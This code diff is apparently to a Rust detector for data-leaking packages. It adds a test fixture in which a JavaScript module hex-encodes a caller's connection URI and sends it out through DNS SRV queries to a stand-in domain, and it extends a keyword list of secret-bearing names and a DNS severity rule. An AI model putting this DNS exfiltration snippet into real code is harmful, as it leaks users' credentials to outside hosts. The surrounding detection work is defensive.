@@ -153,6 +153,24 @@ exports.call = (host, headers) => {
             ],
         },
         Example {
+            name: "what a caller gives leaves in questions for names",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const dns = require("dns");
+exports.connect = (uri) => {
+  const labels = Buffer.from(uri).toString("hex").match(/.{1,56}/g) || [];
+  dns.resolveSrv(["_tcp", ...labels.slice(0, 3), "seeds.other.invalid"].join("."), () => {});
+};"#,
+                ),
+            ],
+        },
+        Example {
             name: "a wallet hands its keys to its own maker",
             severity: Some(Severity::High),
             files: &[
@@ -236,8 +254,13 @@ const LOGINS: [&str; 12] = [
 /// Names that mean a key only as a whole.
 const WHOLE: [&str; 6] = ["priv", "prv", "seed", "sk", "wif", "xprv"];
 /// What else keys and cards are handed over as.
-const MATERIAL: [&str; 8] = [
+const MATERIAL: [&str; 13] = [
+    "auth",
     "cardholder",
+    "connectionparams",
+    "connectionstring",
+    "dsn",
+    "headers",
     "iban",
     "jwk",
     "keydata",
@@ -323,6 +346,8 @@ fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
             "foreign" if is_doubled => Severity::High,
             // Who asks a service something takes the answer.
             _ if flow.is_unanswered && names_secret(&flow.source) => Severity::High,
+            // Names are asked for their addresses; who does not want those tells something.
+            _ if flow.is_unanswered && flow.sink.id == "network.dns" => Severity::High,
             "foreign" if is_namesake(context, url) => continue,
             _ if flow.is_unanswered => Severity::Medium,
             _ if is_request && is_hidden => Severity::High,
